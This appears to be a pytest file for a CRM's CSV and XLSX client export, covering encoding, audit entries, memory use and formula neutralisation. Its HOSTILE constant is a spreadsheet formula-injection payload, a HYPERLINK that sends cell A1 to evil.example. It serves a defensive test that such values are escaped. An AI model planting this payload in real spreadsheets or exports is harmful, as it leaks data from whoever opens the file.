"""Client exports: what lands in the CSV and XLSX files, the audit entry, flat memory."""

from __future__ import annotations

import codecs
import csv
import io
import tracemalloc
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from sqlalchemy import select, text, true
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from callcenter.contact_export import COLUMNS, ExportFormat, export_clients, write_clients
from callcenter.models import (
    AdChannel,
    AuditEntry,
    Company,
    Contact,
    ContactEmail,
    ContactPhone,
    User,
)
from callcenter.users import add_user

pytestmark = pytest.mark.db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Нажми")'
MOSCOW = ZoneInfo("Europe/Moscow")


async def make_clients(db: async_sessionmaker[AsyncSession]) -> dict[str, int]:
    async with db() as session:
        manager = await add_user(
            session, login="boss", full_name="Ольга Петрова", role="manager", password="x" * 12
        )
        channel = AdChannel(name="Яндекс.Директ")
        company = Company(name=HOSTILE)
        session.add_all([channel, company])
        await session.flush()
        ivan = Contact(
            last_name="Петров",
            first_name="Иван",
            middle_name="Сергеевич",
            company_id=company.id,
            status="client",
            manager_id=manager.id,
            ad_channel_id=channel.id,
            tags=["vip", "-опт"],
            region="Москва",
            time_zone="Europe/Moscow",
        )
        plain = Contact(display_name="@Мария", status="lead")
        gone = Contact(display_name="Дубль", status="lead")
        session.add_all([ivan, plain, gone])
        await session.flush()
        gone.merged_into_id = ivan.id
        session.add_all(
            [
                ContactPhone(contact_id=ivan.id, raw="8 495 123-45-67", e164="+74951234567"),
                ContactPhone(contact_id=ivan.id, raw="8 916 123-45-67", e164="+79161234567"),
                ContactEmail(contact_id=ivan.id, email="ivan@example.ru"),
                ContactPhone(contact_id=plain.id, raw="+7 383 123-45-67", e164="+73831234567"),
            ]
        )
        await session.execute(
            text(
                "INSERT INTO interactions (contact_id, kind, occurred_at)"
                " VALUES (:id, 'note', '2026-03-01 09:30+00')"
            ),
            {"id": ivan.id},
        )
        await session.commit()
        return {"ivan": ivan.id, "plain": plain.id, "manager": manager.id}


async def test_csv_is_utf8_with_bom_semicolons_and_neutralised_formulas(
    db: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    ids = await make_clients(db)
    path = tmp_path / "clients.csv"
    async with db() as session:
        written = await write_clients(session, true(), path, ExportFormat.CSV, zone=MOSCOW)
    assert written == 2  # the merged-away duplicate is not a client of its own
    raw = path.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == list(COLUMNS)
    by_id = {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]}
    ivan = by_id[str(ids["ivan"])]
    assert ivan["Name"] == "Петров Иван Сергеевич"
    assert ivan["Company"] == "'" + HOSTILE
    assert ivan["Phones"] == "+74951234567, +79161234567"
    assert ivan["E-mails"] == "ivan@example.ru"
    assert ivan["Status"] == "client"
    assert ivan["Manager"] == "Ольга Петрова"
    assert ivan["Ad channel"] == "Яндекс.Директ"
    assert ivan["Tags"] == "vip, -опт"
    assert ivan["Last contact"] == "01.03.2026 12:30"  # Moscow time
    plain = by_id[str(ids["plain"])]
    assert plain["Name"] == "'@Мария"
    assert plain["Phones"] == "+73831234567"
    assert plain["Last contact"] == ""

    comma = tmp_path / "comma.csv"
    async with db() as session:
        await write_clients(
            session, Contact.id == ids["plain"], comma, ExportFormat.CSV, zone=MOSCOW, delimiter=","
        )
    assert comma.read_text(encoding="utf-8-sig").splitlines()[1].startswith(f"{ids['plain']},")


async def test_xlsx_keeps_phones_as_text_and_formulas_as_harmless_text(
    db: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    ids = await make_clients(db)
    path = tmp_path / "clients.xlsx"
    russian = {"Name": "Имя", "client": "клиент"}
    async with db() as session:
        written = await write_clients(
            session,
            true(),
            path,
            ExportFormat.XLSX,
            zone=MOSCOW,
            label=lambda word: russian.get(word, word),
        )
    assert written == 2
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]][:3] == ["ID", "Имя", "Company"]
    ivan = next(row for row in rows[1:] if row[0].value == ids["ivan"])
    company, phones, status = ivan[2], ivan[3], ivan[5]
    assert company.value == "'" + HOSTILE and company.data_type == "s"
    assert phones.value == "+74951234567, +79161234567" and phones.data_type == "s"
    assert status.value == "клиент"
    assert ivan[1].value == "Петров Иван Сергеевич"
    assert ivan[11].value is not None and ivan[11].value.strftime("%d.%m.%Y %H:%M") == (
        "01.03.2026 12:30"
    )
    plain = next(row for row in rows[1:] if row[0].value == ids["plain"])
    assert plain[3].value == "+73831234567" and plain[3].data_type == "s"
    # no cell anywhere is a formula
    assert all(cell.data_type != "f" for row in rows for cell in row)


async def test_every_export_is_audited_with_its_filter_and_row_count(
    db: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    ids = await make_clients(db)
    async with db() as session:
        manager = await session.get(User, ids["manager"])
        assert manager is not None
        written = await export_clients(
            session,
            manager,
            Contact.status == "client",
            tmp_path / "x.xlsx",
            ExportFormat.XLSX,
            described_as={"segment_id": 7, "filters": {"statuses": ["client"]}},
            zone=MOSCOW,
            ip="10.0.0.9",
        )
        await session.commit()
        entries = list(await session.scalars(select(AuditEntry)))
    assert written == 1
    assert [(e.actor_id, e.action, str(e.ip), e.details) for e in entries] == [
        (
            ids["manager"],
            "contacts.export",
            "10.0.0.9",
            {
                "format": "xlsx",
                "filter": {"segment_id": 7, "filters": {"statuses": ["client"]}},
                "rows": 1,
            },
        )
    ]


ROWS = 50_000


@pytest.mark.parametrize("fmt", [ExportFormat.CSV, ExportFormat.XLSX])
async def test_exporting_50k_clients_takes_little_memory(
    db: async_sessionmaker[AsyncSession], tmp_path: Path, fmt: ExportFormat
) -> None:
    async with db() as session:
        await session.execute(
            text(
                """INSERT INTO contacts (last_name, first_name, status, tags, region)
                   SELECT 'Фамилия' || n, 'Имя' || n, 'lead', ARRAY['tag' || n % 10], 'Москва'
                   FROM generate_series(1, :rows) AS n"""
            ),
            {"rows": ROWS},
        )
        await session.execute(
            text(
                """INSERT INTO contact_phones (contact_id, raw, e164)
                   SELECT id, '+7916' || lpad(id::text, 7, '0'), '+7916' || lpad(id::text, 7, '0')
                   FROM contacts"""
            )
        )
        await session.commit()
    path = tmp_path / f"big.{fmt.value}"
    tracemalloc.start()
    try:
        async with db() as session:
            written = await write_clients(session, true(), path, fmt, zone=MOSCOW)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert written == ROWS
    # the rows alone, held at once, would take far more than this (~50 MB of Python objects)
    assert peak < 8 * 2**20, f"peak {peak / 2**20:.1f} MB"
    assert path.stat().st_size > ROWS * 20
